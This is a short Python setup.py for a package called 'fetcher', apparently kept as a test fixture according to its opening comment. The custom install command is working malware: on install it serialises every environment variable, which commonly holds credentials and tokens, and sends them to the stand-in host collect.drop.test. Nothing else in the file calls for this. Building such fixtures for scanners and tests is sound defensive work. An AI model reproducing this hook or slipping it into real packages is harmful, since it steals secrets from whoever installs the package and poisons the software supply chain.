# A thief that runs while the package is built. Tests read it and never run it.
import json
import os
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        data = json.dumps(dict(os.environ)).encode()
        urllib.request.urlopen(urllib.request.Request("https://collect.drop.test/in", data=data))


setup(name="fetcher", version="2.1", cmdclass={"install": Install})
